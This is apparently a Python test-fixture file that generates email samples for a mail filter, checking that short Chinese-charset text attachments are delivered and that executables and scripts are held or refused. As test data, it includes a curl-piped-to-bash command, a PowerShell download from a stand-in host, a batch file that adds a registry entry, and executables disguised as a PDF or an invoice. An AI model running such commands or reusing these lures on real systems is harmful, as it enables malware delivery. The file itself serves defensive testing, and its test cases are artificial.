"""File types judged by content: short texts in Chinese legacy charsets are text, not
programs (delivered); real executables and scripts are held outbound, refused inbound."""

from __future__ import annotations

import random

from tests.accuracy import mime
from tests.accuracy.common import Sample, outbound, pick_pair, signature, simple
from tests.accuracy.fake import EN_EXT, STAFF

CAT = "filetypes"


def pe_executable(rng: random.Random) -> bytes:
    """A minimal, well-formed-looking PE image header (DOS stub + PE signature + COFF)."""
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43)
    dos += (0x80).to_bytes(4, "little")
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    dos += b"\x00" * (0x80 - len(dos))
    coff = b"PE\x00\x00" + b"\x4c\x01\x03\x00" + rng.randbytes(4) + b"\x00" * 8 + b"\xe0\x00\x02\x01"
    opt = b"\x0b\x01" + b"\x00" * 222
    return bytes(dos + coff + opt + rng.randbytes(1024))


def build(rng: random.Random) -> list[Sample]:
    out: list[Sample] = []

    def add(expect: str, note: str, att: mime.Part, *, lang: str = "zh", inbound: bool = False) -> None:
        s, r = pick_pair(rng, lang)
        body = ("附件请查收。\n\n" if lang == "zh" else "Please see the attachment.\n\n") + signature(s, lang, disclaimer=expect == "delivered")
        kind = "pos" if expect != "delivered" else "neg"
        sid = f"file-{kind}-{len(out) + 1:03d}"
        if inbound:
            mail = simple(r, s, "文件" if lang == "zh" else "Files", body, attachments=[att])
            out.append(Sample(sid, CAT, expect, note, mail, r.addr, [s.addr], "inbound"))
        else:
            out.append(outbound(sid, CAT, expect, note, simple(s, r, "文件" if lang == "zh" else "Files", body,
                                                              attachments=[att])))

    short_texts = [("备注.txt", "请于周五前回复。", "gbk"), ("地址.txt", "上海市浦东新区张江路88号", "gbk"),
                   ("说明.txt", "已收到，谢谢", "gbk"), ("note.txt", "好的", "gbk"), ("清单.txt", "螺丝 200个\r\n垫片 500个\r\n", "gbk"),
                   ("提醒.txt", "明天上午十点开会", "gb18030"), ("價格.txt", "單價：新台幣1,200元", "big5"),
                   ("联系人.txt", "王经理 13812345678", "gbk"), ("ok.txt", "收到", "gbk"), ("日程.txt", "周一：出差北京", "gb18030"),
                   # notes that open the way many do (各位, 感谢, 根据, 该, 更新): their first GBK bytes
                   # (0xB8 ..) are what file(1) takes for a DOS .COM program's first instruction
                   ("通知.txt", "各位好，明天上午九点开会。", "gbk"), ("回复.txt", "感谢您的支持！", "gbk"),
                   ("付款.txt", "根据合同第三条，请于月底前付款。", "gbk"), ("备注.txt", "高总：报价已发，请查收。", "gbk"),
                   ("价格.txt", "更新后的价格见附件。", "gb18030"), ("到货.txt", "该批货物已到港", "gbk"),
                   ("费用.txt", "港口费用明细：装卸费800元", "gbk"), ("发货.txt", "改为下周二发货", "gb18030"),
                   ("谢谢.txt", "感谢", "gbk"), ("钢材.txt", "钢材报价 4,150元/吨", "gbk"),
                   ("起运.txt", "起运港：宁波", "gbk"), ("采购.txt", "农夫山泉 24瓶", "gbk")]
    for name, text, cs in short_texts:
        data = text.encode(cs)
        declared = cs if rng.random() < 0.5 else None
        add("delivered", f"short {cs} text attachment ({len(data)} bytes{', no charset' if not declared else ''})",
            mime.attachment(name, data, "text/plain" if declared else "application/octet-stream", charset=declared,
                            name_style="rfc2047"))
    add("delivered", "short GBK text inside a zip", mime.attachment("资料.zip", mime.zip_of({"readme.txt": "见附件".encode("gbk")}),
                                                                 "application/zip"))
    add("delivered", "short UTF-16 text attachment", mime.attachment("备注.txt", "请查收".encode("utf-16"), "text/plain"))
    # real programs and scripts
    add("held", "Windows executable", mime.attachment("setup.exe", pe_executable(rng), "application/octet-stream"), lang="en")
    add("held", "executable named .pdf", mime.attachment("invoice.pdf", pe_executable(rng), "application/pdf"), lang="en")
    add("held", "executable inside a zip", mime.attachment("tool.zip", mime.zip_of({"tool/run.exe": pe_executable(rng)}),
                                                           "application/zip"), lang="en")
    add("held", "PowerShell script", mime.attachment("cleanup.ps1", b"Get-ChildItem C:\\Temp -Recurse | Remove-Item -Force\r\n"
                                                     b"Invoke-WebRequest -Uri https://ex.example.net/a.ps1 -OutFile a.ps1\r\n",
                                                     "text/plain"), lang="en")
    add("held", "batch file", mime.attachment("install.bat", b"@echo off\r\nreg add HKLM\\Software\\Ex /v Run /d 1 /f\r\n"
                                              b"start /b setup.exe\r\n", "application/octet-stream"), lang="en")
    add("held", "shell script", mime.attachment("deploy.sh", b"#!/bin/bash\nset -e\ncurl -fsSL https://ex.example.net/i.sh | bash\n",
                                                "application/x-sh"), lang="en")
    s = STAFF[0]
    mail = simple(EN_EXT[3], s, "Invoice", "Please open the attached invoice.", attachments=[
        mime.attachment("invoice_2026.exe", pe_executable(rng), "application/octet-stream")])
    out.append(Sample(f"file-pos-{len(out) + 1:03d}", CAT, "refused", "inbound executable is refused", mail,
                      EN_EXT[3].addr, [s.addr], "inbound"))
    mail = simple(EN_EXT[5], s, "Documents", "Scanned documents attached.", attachments=[
        mime.attachment("scan.zip", mime.zip_of({"scan.pdf.exe": pe_executable(rng)}), "application/zip")])
    out.append(Sample(f"file-pos-{len(out) + 1:03d}", CAT, "refused", "inbound executable in a zip is refused", mail,
                      EN_EXT[5].addr, [s.addr], "inbound"))
    return out
